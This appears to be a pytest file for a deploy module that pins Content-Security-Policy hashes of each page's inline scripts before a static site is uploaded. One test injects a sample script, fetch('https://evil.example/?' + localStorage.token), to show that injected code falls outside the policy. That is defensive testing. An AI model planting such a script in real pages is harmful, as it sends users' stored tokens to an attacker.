"""The static export's script policy (deploy/csp.py): the hashes of exactly the inline scripts each page ships."""

from __future__ import annotations

from pathlib import Path

import pytest

from deploy.csp import SCRIPT_SOURCES, inline_script_hashes, pin_export, pin_page, script_hash, unpinned_pages
from deploy.upload import upload

PAGE = (
    '<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><title>Today</title>'
    '<link rel="modulepreload" href="/assets/entry.client.js"/>'
    "<script>window.__reactRouterContext = {};</script>"
    '<script type="module" async="">import "/assets/manifest.js";</script>'
    '<script src="/attachments_upload.js"></script>'
    "</head><body><div id=root></div><script>window.__reactRouterContext = {};</script>"
    '<script id="_R_">requestAnimationFrame(function(){$RT=performance.now()});</script></body></html>'
)


def policy_of(pinned: str) -> list[str]:
    start = pinned.index('content="script-src ') + len('content="')
    return pinned[start : pinned.index('"', start)].split()


def test_the_hash_is_the_one_the_csp_spec_gives() -> None:
    # The example of CSP Level 3, 8.2 ("hash-source").
    assert script_hash("alert('Hello, world.');") == "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"


def test_every_inline_script_is_hashed_once_and_scripts_from_files_are_not() -> None:
    assert inline_script_hashes(PAGE) == [
        script_hash("window.__reactRouterContext = {};"),
        script_hash('import "/assets/manifest.js";'),
        script_hash("requestAnimationFrame(function(){$RT=performance.now()});"),
    ]


def test_the_policy_comes_right_after_the_charset_before_any_script() -> None:
    pinned = pin_page(PAGE)
    meta = pinned.index('<meta http-equiv="Content-Security-Policy"')
    assert pinned.index("<meta charSet") < meta < pinned.index("<script")
    assert policy_of(pinned) == ["script-src", *SCRIPT_SOURCES, *inline_script_hashes(PAGE)]
    assert "'unsafe-inline'" not in policy_of(pinned)


def test_pinning_twice_gives_the_same_page() -> None:
    assert pin_page(pin_page(PAGE)) == pin_page(PAGE)


def test_a_script_added_after_pinning_is_not_in_the_policy() -> None:
    pinned = pin_page(PAGE)
    injected = pinned.replace("</body>", "<script>fetch('https://evil.example/?' + localStorage.token)</script></body>")
    assert script_hash("fetch('https://evil.example/?' + localStorage.token)") not in policy_of(injected)


def test_a_page_without_head_or_with_a_script_before_it_is_refused() -> None:
    with pytest.raises(ValueError, match="no <head>"):
        pin_page("<html><body><script>x()</script></body></html>")
    with pytest.raises(ValueError, match="before <head>"):
        pin_page("<script>x()</script><html><head></head></html>")


def test_every_page_of_an_export_is_pinned_in_place(tmp_path: Path) -> None:
    (tmp_path / "inbox").mkdir()
    (tmp_path / "index.html").write_text(PAGE, encoding="utf-8")
    (tmp_path / "inbox" / "index.html").write_text(PAGE.replace("{}", "{inbox: 1}"), encoding="utf-8")
    (tmp_path / "app.js").write_text("<script>not a page</script>", encoding="utf-8")
    assert pin_export(tmp_path) == 2
    inbox = (tmp_path / "inbox" / "index.html").read_text(encoding="utf-8")
    assert script_hash("window.__reactRouterContext = {inbox: 1};") in policy_of(inbox)
    assert script_hash("window.__reactRouterContext = {};") not in policy_of(inbox)  # each page its own scripts
    assert (tmp_path / "app.js").read_text(encoding="utf-8") == "<script>not a page</script>"


def test_an_export_with_an_unpinned_page_is_not_uploaded(tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(PAGE, encoding="utf-8")
    pin_export(tmp_path)
    (tmp_path / "late.html").write_text(PAGE, encoding="utf-8")  # added after pinning
    assert unpinned_pages(tmp_path) == [tmp_path / "late.html"]
    with pytest.raises(ValueError, match="1 pages lack their script policy"):
        upload(tmp_path, "any-bucket")  # refused before any AWS call
